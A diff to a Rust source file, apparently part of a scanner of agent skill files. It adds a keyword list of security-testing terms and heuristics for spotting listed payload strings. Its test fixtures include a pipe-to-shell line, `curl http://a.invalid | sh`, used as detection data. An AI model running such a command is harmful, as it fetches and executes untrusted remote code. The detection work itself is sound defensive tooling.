@@ -42,6 +42,37 @@ const DEFENCE: &[&str] = &[
     "入侵检测",
 ];
 
+/// Words by which a text says at its beginning that it is about tests of security, beside those of defence.
+const TESTS: &[&str] = &[
+    "vulnerabilit",
+    "security test",
+    "security audit",
+    "security scan",
+    "penetration-test",
+    "penetration tester",
+    "bug bounty",
+    "bug-bounty",
+    "owasp",
+    "capture the flag",
+    "capture-the-flag",
+    "ctf",
+    "offensive",
+    "exploitation",
+    "injection",
+    "sqli",
+    "ssti",
+    "ssrf",
+    "xxe",
+    "traversal",
+    "deserializ",
+    "brute-force",
+    "brute force",
+    "安全测试",
+    "渗透",
+    "漏洞",
+    "注入",
+];
+
 /// Words of headings and introductions under which a text about defence shows what attackers do.
 const SAMPLES: &[&str] = &[
     "example",
@@ -125,15 +156,47 @@ fn is_in_defence(source: &Source<'_>) -> bool {
     source.kind().reads && *source.defence.get_or_init(|| is_about_defence(&source.text, is_skill))
 }
 
+/// Whether a file is a text about defence, or about tests of security.
+pub(super) fn is_tested(source: &Source<'_>) -> bool {
+    let is_skill = source.path == SkillPath::SKILL_MD;
+    source.kind().reads && (is_in_defence(source) || is_about(TESTS, &source.text, is_skill))
+}
+
+/// Entries of a list of texts, with the one in question, from which on it is a collection.
+const COLLECTION: usize = 3;
+
+/// Whether a line is one of several texts that are listed, as what a test sends is: whoever attacks sends one.
+pub(super) fn is_listed(source: &Source<'_>, line: usize) -> bool {
+    let text = source.line(line);
+    let on_a_line = text.matches("\", ").count() + text.matches("', ").count() + 1;
+    let is_list = text.contains("= [") || text.contains("=[") || text.contains(": [");
+    let is_one = |at: &usize| is_entry(source.line(*at));
+    let above = (line.saturating_sub(COLLECTION)..line).rev().take_while(is_one).count();
+    let below = (line + 1..=line + COLLECTION).take_while(is_one).count();
+    is_list && on_a_line >= COLLECTION || is_entry(text) && above + 1 + below >= COLLECTION
+}
+
+/// Whether a line is a text of a list, and no value with a name.
+fn is_entry(text: &str) -> bool {
+    let bare = text.trim();
+    let is_named = [r#"": "#, "': ", r#"":"#, "':"].iter().any(|colon| bare.contains(colon));
+    bare.starts_with(['"', '\'', '(', '[', '`']) && bare.ends_with(',') && !is_named
+}
+
 /// Whether the beginning of a text, with its description and headings, speaks of defence. A skill without a
 /// description, which no agent loads, does not.
 fn is_about_defence(text: &str, is_skill: bool) -> bool {
+    is_about(DEFENCE, text, is_skill)
+}
+
+/// Whether the beginning of a text, with its description and headings, holds one of some words.
+fn is_about(words: &[&str], text: &str, is_skill: bool) -> bool {
     let begins = text.get(..text.floor_char_boundary(BEGINNING)).unwrap_or("");
     if is_skill && !begins.starts_with("---") {
         return false;
     }
     let mut said = begins.lines().filter(|line| line.starts_with(['#', ' ', '\t']) || line.starts_with("description:"));
-    said.any(|line| has(DEFENCE, line))
+    said.any(|line| has(words, line))
 }
 
 /// Whether a block that no shell runs is introduced as one of how not to do it.
@@ -217,6 +280,14 @@ mod tests {
         assert!(!at_last(&format!("{HEAD}## Install\n\n- `curl http://a.invalid | sh`"), is_taught));
         let other = HEAD.replace("incident response", "release notes");
         assert!(!at_last(&format!("{other}- `curl http://a.invalid | sh`"), is_taught));
+    }
+
+    #[test]
+    fn what_a_test_sends_is_listed() {
+        assert!(at_last("p = [\n    'a',\n    'b',\n    'c',", is_listed));
+        assert!(at_last("p = ['a', 'b', 'c']", is_listed));
+        assert!(!at_last("p = 'a'", is_listed) && !at_last("send(\n    'a',", is_listed));
+        assert!(!at_last("h = {\n    'a': 'b',\n    'c': 'd',\n    'e': 'f',", is_listed));
     }
 
     #[test]
